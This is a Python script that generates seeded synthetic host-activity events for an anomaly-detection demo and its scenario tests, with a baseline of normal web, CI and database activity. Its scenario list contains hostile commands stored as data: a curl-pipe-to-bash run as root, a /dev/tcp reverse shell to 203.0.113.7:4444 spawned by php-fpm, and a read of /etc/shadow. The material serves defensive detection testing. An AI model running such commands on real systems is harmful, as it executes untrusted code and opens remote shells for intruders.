#!/usr/bin/env python3
"""Writes the demo's and the scenario tests' JSON Lines: a baseline of normal
activity for three workloads of one org (web, ci, db) and the first seed's
scenarios. Deterministic (seeded); `@ORG@` and `@RUN@` are filled in by the
users of the files (scripts/demo, the scenario tests).

    python3 compose/demo/generate.py   # rewrites baseline.jsonl, scenarios.jsonl
"""
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
rnd = random.Random(7)
lines = []


def ev(prefix, n, wl, host, kind, **kw):
    d = {"event_id": f"@RUN@-{prefix}-{n}", "org": "@ORG@", "workload": wl, "host": host, "kind": kind}
    d.update(kw)
    return json.dumps(d, separators=(",", ":"))


def web(n):
    h = f"web-{n % 3 + 1}"
    r = rnd.random()
    pid = rnd.randint(1000, 60000)
    if r < 0.30:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=900, uid=33, gid=33, comm="nginx", parent_comm="nginx",
                  exe="/usr/sbin/nginx", argv=["nginx: worker process"], cwd="/", cgroup="/system.slice/nginx.service")
    if r < 0.36:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=1, uid=0, gid=0, comm="nginx", parent_comm="systemd",
                  exe="/usr/sbin/nginx", argv=["/usr/sbin/nginx", "-s", "reload"], cwd="/", cgroup="/system.slice/nginx.service")
    if r < 0.46:
        return ev("base", n, "web", h, "connect", pid=pid, uid=33, comm="php-fpm8.2", parent_comm="php-fpm8.2",
                  remote_ip="10.0.1.5", remote_port=5432, local_port=rnd.randint(32768, 60999), protocol="tcp")
    if r < 0.52:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=800, uid=0, gid=0, comm="logrotate", parent_comm="cron",
                  exe="/usr/sbin/logrotate", argv=["/usr/sbin/logrotate", "/etc/logrotate.conf"], cwd="/", cgroup="/system.slice/cron.service")
    if r < 0.55:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=800, uid=0, gid=0, comm="certbot", parent_comm="cron",
                  exe="/usr/bin/certbot", argv=["/usr/bin/certbot", "-q", "renew"], cwd="/", cgroup="/system.slice/cron.service")
    if r < 0.66:
        return ev("base", n, "web", h, "open", pid=pid, uid=33, comm="nginx", parent_comm="nginx",
                  path="/var/log/nginx/access.log", flags=0o2101)
    if r < 0.72:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=1, uid=33, gid=33, comm="php-fpm8.2", parent_comm="systemd",
                  exe="/usr/sbin/php-fpm8.2", argv=["php-fpm: pool www"], cwd="/", cgroup="/system.slice/php8.2-fpm.service")
    # An administrator's ssh sessions: a login shell and routine commands.
    if r < 0.77:
        return ev("base", n, "web", h, "exec", pid=pid, ppid=pid - 1, uid=1000, gid=1000, comm="bash", parent_comm="sshd",
                  exe="/usr/bin/bash", argv=["-bash"], cwd="/home/admin")
    admin = [
        ("sudo", ["sudo", "systemctl", "status", "nginx"]),
        ("sudo", ["sudo", "systemctl", "reload", "nginx"]),
        ("tail", ["tail", "-n", "200", "/var/log/nginx/error.log"]),
        ("less", ["less", "/var/log/nginx/access.log"]),
        ("vim", ["vim", "/etc/nginx/sites-available/app.conf"]),
        ("ls", ["ls", "-la", "/var/www/app"]),
        ("df", ["df", "-h"]),
        ("git", ["git", "-C", "/var/www/app", "pull", "--ff-only"]),
    ]
    comm, argv = rnd.choice(admin)
    return ev("base", n, "web", h, "exec", pid=pid, ppid=pid - 1, uid=1000, gid=1000, comm=comm, parent_comm="bash",
              exe=f"/usr/bin/{comm}", argv=argv, cwd="/home/admin")


def ci(n):
    cmds = [
        ("git", ["git", "fetch", "--depth=1", "origin", "refs/heads/main"]),
        ("cargo", ["cargo", "build", "--release", "--locked"]),
        ("cargo", ["cargo", "test", "--workspace"]),
        ("npm", ["npm", "ci", "--no-audit"]),
        ("bash", ["bash", "./scripts/build.sh", "--release"]),
        ("bash", ["bash", "./scripts/test.sh"]),
        ("make", ["make", "-j2", "all"]),
    ]
    comm, argv = rnd.choice(cmds)
    pid = rnd.randint(1000, 60000)
    if rnd.random() < 0.2:
        return ev("base", n, "ci", "ci-runner-1", "connect", pid=pid, uid=1001, comm=comm, parent_comm="runner",
                  remote_ip="140.82.112.3", remote_port=443, local_port=rnd.randint(32768, 60999), protocol="tcp")
    return ev("base", n, "ci", "ci-runner-1", "exec", pid=pid, ppid=1999, uid=1001, gid=1001, comm=comm, parent_comm="runner",
              exe=f"/usr/bin/{comm}", argv=argv, cwd=f"/home/runner/work/app/build-{rnd.randint(1000, 9999)}",
              cgroup="/system.slice/actions-runner.service")


def db(n):
    r = rnd.random()
    pid = rnd.randint(1000, 60000)
    dump = f"/backup/app-2026{rnd.randint(1001, 1231)}.dump"
    if r < 0.5:
        return ev("base", n, "db", "db-1", "exec", pid=pid, ppid=2999, uid=105, gid=110, comm="postgres", parent_comm="postgres",
                  exe="/usr/lib/postgresql/15/bin/postgres", argv=["postgres: autovacuum worker"], cwd="/var/lib/postgresql/15/main")
    if r < 0.8:
        return ev("base", n, "db", "db-1", "exec", pid=pid, ppid=800, uid=105, gid=110, comm="pg_dump", parent_comm="cron",
                  exe="/usr/bin/pg_dump", argv=["pg_dump", "-Fc", "-f", dump, "app"], cwd="/var/lib/postgresql")
    return ev("base", n, "db", "db-1", "open", pid=pid, uid=105, comm="pg_dump", parent_comm="cron", path=dump, flags=0o1101)


gens = [web] * 6 + [ci] * 2 + [db] * 2
for n in range(1, 601):
    lines.append(rnd.choice(gens)(n))
(HERE / "baseline.jsonl").write_text("\n".join(lines) + "\n")

# The first seed's scenarios, and two more for the demo.
S = [
    ("nginx-worker-restart", "web", "web-1", "exec", dict(pid=5001, ppid=900, uid=33, gid=33, comm="nginx", parent_comm="nginx",
        exe="/usr/sbin/nginx", argv=["nginx: worker process"], cwd="/", cgroup="/system.slice/nginx.service")),
    ("debug-shell-left-open", "web", "web-2", "exec", dict(pid=5002, ppid=5000, uid=1000, gid=1000, comm="bash", parent_comm="sshd",
        exe="/usr/bin/bash", argv=["bash", "--norc", "--noprofile", "-i"], cwd="/srv/app")),
    ("new-ci-script-first-run", "ci", "ci-runner-1", "exec", dict(pid=5003, ppid=1999, uid=1001, gid=1001, comm="bash", parent_comm="runner",
        exe="/usr/bin/bash", argv=["bash", "./scripts/package-artifacts.sh", "--sign"], cwd="/home/runner/work/app/build-5521",
        cgroup="/system.slice/actions-runner.service")),
    ("new-ci-script-second-run", "ci", "ci-runner-1", "exec", dict(pid=5004, ppid=1999, uid=1001, gid=1001, comm="bash", parent_comm="runner",
        exe="/usr/bin/bash", argv=["bash", "./scripts/package-artifacts.sh", "--sign"], cwd="/home/runner/work/app/build-5522",
        cgroup="/system.slice/actions-runner.service")),
    ("curl-pipe-bash-as-root", "web", "web-3", "exec", dict(pid=5005, ppid=5004, uid=0, gid=0, comm="bash", parent_comm="sudo",
        exe="/usr/bin/bash", argv=["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"], cwd="/tmp")),
    ("reverse-shell-from-web-app", "web", "web-3", "exec", dict(pid=5008, ppid=5007, uid=33, gid=33, comm="bash", parent_comm="php-fpm8.2",
        exe="/usr/bin/bash", argv=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], cwd="/var/www/app")),
    ("reverse-shell-connect", "web", "web-3", "connect", dict(pid=5006, uid=33, comm="bash", parent_comm="php-fpm8.2",
        remote_ip="203.0.113.7", remote_port=4444, local_port=51544, protocol="tcp")),
    ("shadow-read-by-web-user", "web", "web-3", "open", dict(pid=5007, uid=33, comm="cat", parent_comm="bash", path="/etc/shadow", flags=0)),
]
out = []
for name, wl, host, kind, kw in S:
    d = {"event_id": f"@RUN@-{name}", "org": "@ORG@", "workload": wl, "host": host, "kind": kind}
    d.update(kw)
    out.append(json.dumps(d, separators=(",", ":")))
(HERE / "scenarios.jsonl").write_text("\n".join(out) + "\n")
print(len(lines), "baseline events,", len(out), "scenario events")
